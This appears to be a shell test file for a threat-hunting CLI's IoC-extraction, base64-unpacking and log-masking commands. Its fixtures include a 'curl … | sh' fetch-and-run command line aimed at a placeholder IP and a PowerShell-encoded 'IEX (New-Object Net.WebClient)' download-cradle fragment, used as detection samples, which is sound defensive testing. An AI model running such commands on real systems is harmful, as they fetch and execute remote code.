#!/bin/sh
# tests/cli/test_cli_ioc.sh -- `huntkit ioc extract` and `huntkit unpack`.
# The verbs compose pipelines of the text/file providers and the iocextract
# and b64unpack analyzers, whose own tests check extraction in depth; these
# check the verbs' inputs, columns, grouping and errors.  Expected hashes of
# base64msg.txt are those of plugins/b64unpack/test_b64unpack.sh (python3).
. "$HK_SRCDIR/tests/lib.sh"

# --- ioc extract: a string --------------------------------------------------
hk ioc extract --text 'beacon hxxp://evil[.]com/x from 10.1.2.3 to 8.8.8.8; again 8.8.8.8 and evil.com'
is "$rc" 0 "--text: exit 0"
is "$out" 'IoCType  Observable         Line
-------  -----------------  ----
ipv4     10.1.2.3              1
ipv4     8.8.8.8               1
dns      evil.com              1
url      http://evil.com/x     1
(4 rows)' "--text: one row per distinct observable of the line, refanged"

hk ioc extract -o json --text 'a 8.8.8.8 b 1.1.1.1 c 8.8.8.8 d hxxps://x[.]org/p e@x.org 10:22:33'
is "$out" '{
  "ipv4": [
    "1.1.1.1",
    "8.8.8.8"
  ],
  "dns": [
    "x.org"
  ],
  "url": [
    "https://x.org/p"
  ],
  "email": [
    "e@x.org"
  ]
}' "-o json: grouped by type, each once (lines it is on, then value), no clock time as IPv6"

hk ioc extract -o json --text 'nothing here'
is "$out" '{
}' "-o json with no IoC: an empty object"

printf 'a 9.9.9.9\nb 9.9.9.9 5.5.5.5\nc 9.9.9.9 5.5.5.5 7.7.7.7\n' >"$T/freq.txt"
hk ioc extract -o json "$T/freq.txt"
is "$out" '{
  "ipv4": [
    "9.9.9.9",
    "5.5.5.5",
    "7.7.7.7"
  ]
}' "-o json: the observable on most lines first"

hk ioc extract --no-refang -o csv --text 'hxxp://evil[.]com/a'
is "$out" 'IoCType,Observable,Line
dns,evil[.]com,1
url,hxxp://evil[.]com/a,1' "--no-refang keeps the defanged spelling"

# --- a file, line by line --------------------------------------------------
printf 'first line 192.168.1.10\r\nsecond: d41d8cd98f00b204e9800998ecf8427f\n\nfourth 2001:db8::1 and 9.9.9.9\n' >"$T/log.txt"
hk ioc extract "$T/log.txt" -o csv
is "$out" 'IoCType,Observable,Line
ipv4,192.168.1.10,1
md5_hash,d41d8cd98f00b204e9800998ecf8427f,2
ipv4,9.9.9.9,4
ipv6,2001:db8::1,4' "file: line numbers are 1-based file lines"

hk ioc extract "$T/log.txt" --ignore-private --types ipv4,ipv6 -o csv
is "$out" 'IoCType,Observable,Line
ipv4,9.9.9.9,4' "--ignore-private --types"

hk ioc extract "$T/log.txt" --input -o csv --types md5_hash
is "$out" 'IoCType,Observable,Line,Input
md5_hash,d41d8cd98f00b204e9800998ecf8427f,2,second: d41d8cd98f00b204e9800998ecf8427f' "--input adds the line"

hk_in "$T/log.txt" ioc extract - -o csv --types ipv4
is "$out" 'IoCType,Observable,Line
ipv4,192.168.1.10,1
ipv4,9.9.9.9,4' "standard input"

# --- a table: MSTICPy's extract_df shape -----------------------------------
printf 'Host,CommandLine\nws1,"curl http://203.0.113.9/a.sh | sh"\nws2,"ping 10.0.0.1"\n' >"$T/t.csv"
hk ioc extract "$T/t.csv" --columns CommandLine -o csv --types ipv4,url
is "$out" 'IoCType,Observable,SourceIndex,Input,Column
ipv4,203.0.113.9,0,curl http://203.0.113.9/a.sh | sh,CommandLine
url,http://203.0.113.9/a.sh,0,curl http://203.0.113.9/a.sh | sh,CommandLine
ipv4,10.0.0.1,1,ping 10.0.0.1,CommandLine' "--columns: extract_df rows"

hk ioc extract "$DATA/msticpy/ioc_df.csv" --columns Observable -o csv
hk run -o csv "file path=$DATA/msticpy/ioc_df.csv | iocextract Observable"
# (the pipeline the verb runs gives the same rows)
want="$out"
hk ioc extract "$DATA/msticpy/ioc_df.csv" --columns Observable -o csv
is "$out" "$want" "--columns runs the same pipeline as 'file | iocextract'"

# --- errors ----------------------------------------------------------------
hk ioc
is "$rc" 2 "ioc without subcommand: usage error"
like "$err" "missing subcommand (extract)" "ioc: names the subcommand"
hk ioc extract a b
is "$rc" 2 "two inputs: usage error"
hk ioc extract --text x --columns A
is "$rc" 2 "--columns with --text: usage error"
like "$err" "--columns needs a table FILE" "--columns with --text: says why"
hk ioc extract --text x --types bogus
is "$rc" 1 "unknown type: exit 1"
like "$err" "unknown IoC type 'bogus' (known: ipv4" "unknown type: lists the known ones"
hk ioc extract "$T/nope.txt"
is "$rc" 1 "missing file: exit 1"
like "$err" "cannot open '$T/nope.txt'" "missing file named"
hk help ioc extract
like "$out" "Examples:" "help ioc extract has examples"

# --- unpack ----------------------------------------------------------------
hk unpack "$DATA/msticpy/base64msg.txt" -o csv
is "$rc" 0 "unpack FILE: exit 0"
printf '%s\n' "$out" >"$T/u.csv"
is "$(head -1 "$T/u.csv")" "reference,original_string,file_name,file_type,decoded_string,encoding_type,md5,sha1,sha256,printable_bytes,src_index,depth,size,note" "unpack: compact columns for a whole file"
is "$("$PYTHON3" -c 'import csv,sys
csv.field_size_limit(1 << 30)
for r in csv.DictReader(open(sys.argv[1], newline="")):
    print("|".join((r["reference"], r["file_name"], r["encoding_type"], r["md5"], r["size"])))' "$T/u.csv")" \
"1.1|dllenc.txt|utf-8|9fd687fb66a85f89cc413728a179fb0d|246
1.2|txtenc.txt|utf-8|87adcc213a88d165d4da4ad89827c438|94
1.3|txtenc.txt.gz|binary|709ca834c405231a89d0c7c9d732fc98|109
1.3.1|gzip_file|utf-8|87adcc213a88d165d4da4ad89827c438|94
2.1|dllenc.txt|utf-8|9fd687fb66a85f89cc413728a179fb0d|246
2.2|txtenc.txt|utf-8|87adcc213a88d165d4da4ad89827c438|94
2.3|txtenc.txt.gz|binary|709ca834c405231a89d0c7c9d732fc98|109
2.3.1|gzip_file|utf-8|87adcc213a88d165d4da4ad89827c438|94
2.1|unknown|binary|69fbfeacd07be73e29b7786f663aba07|138
2.2|unknown|utf-16|3414109cd3c337be290997995549fa96|26" "unpack FILE: the items of base64msg.txt"

# "IEX (New-Object Net.WebClient)" as PowerShell -enc (UTF-16LE) base64
enc=$("$PYTHON3" -c 'import base64;print(base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le")).decode())')
hk unpack -o csv --text "powershell -nop -enc $enc"
is "$(printf '%s\n' "$out" | "$PYTHON3" -c 'import csv,sys
for r in csv.DictReader(sys.stdin): print(r["encoding_type"] + "|" + r["decoded_string"])')" \
"utf-16|IEX (New-Object Net.WebClient)" "--text: PowerShell -enc decoded to UTF-8"

printf 'no base64 here\nx %s y\n' "$enc" >"$T/lines.txt"
hk unpack --lines "$T/lines.txt" -o csv
is "$(printf '%s\n' "$out" | "$PYTHON3" -c 'import csv,sys
for r in csv.DictReader(sys.stdin): print(r["src_index"] + "|" + r["decoded_string"])')" \
"1|IEX (New-Object Net.WebClient)" "--lines: src_index is the 0-based line"

hk unpack "$DATA/msticpy/base64msg.txt" --full -o csv
like "$(printf '%s\n' "$out" | head -1)" "src_index,text,full_decoded_string" "--full keeps input and full_decoded_string"

hk unpack --text x --column C
is "$rc" 2 "--column with --text: usage error"
hk unpack "$T/t.csv" --column CommandLine --lines
is "$rc" 2 "--lines with --column: usage error"
hk unpack "$DATA/msticpy/base64msg.txt" --max-depth 1 -o csv
is "$rc" 0 "a limit is a warning, not a failure"
like "$err" "max_depth" "the limit is named"
like "$err" "partial result" "the run is reported partial"
hk unpack "$DATA/msticpy/base64msg.txt" --max-depth 1 --strict -o csv
is "$rc" 1 "--strict: a limit fails the run"

# --- mask ------------------------------------------------------------------
L="$DATA/msticpy/host_logons.csv"
hk mask "$L" --key k1 --host Computer --ip IpAddress
is "$rc" 0 "mask: exit 0"
printf '%s\n' "$out" >"$T/m1.csv"
is "$(head -1 "$T/m1.csv")" "$(head -1 "$L" | cut -c2-)" "mask: CSV with the input's columns by default (pandas index dropped)"
hk mask "$L" --key k1 --host Computer --ip IpAddress
is "$out" "$(cat "$T/m1.csv")" "mask: the same key masks the same way"
hk mask "$L" --key k2 --host Computer --ip IpAddress
unlike "$out" "$(sed -n 2p "$T/m1.csv" | cut -d, -f6)" "mask: another key masks differently"
HK_TEST_KEY=k1 hk mask "$L" --key-env HK_TEST_KEY --host Computer --ip IpAddress
is "$out" "$(cat "$T/m1.csv")" "mask: --key-env reads the key from the environment"
unlike "$(cut -d, -f6 "$T/m1.csv" | sort -u)" "$(sed -n 2p "$L" | cut -d, -f6)" "mask: the host name is gone"
hk mask "$L" --key sekr1tvalue --host Computer -v
unlike "$err" "sekr1tvalue" "mask: the key never appears on stderr, even with -v"
like "$err" "running: huntkit run 'file path=" "mask -v shows the pipeline"
hk mask "$L" --key a --key-env B
is "$rc" 2 "mask: --key and --key-env together: usage error"
hk mask "$L" --key-env HK_SURELY_UNSET_VAR
is "$rc" 2 "mask: unset --key-env variable: usage error"
like "$err" "environment variable 'HK_SURELY_UNSET_VAR' is not set" "mask: names the variable"

done_testing
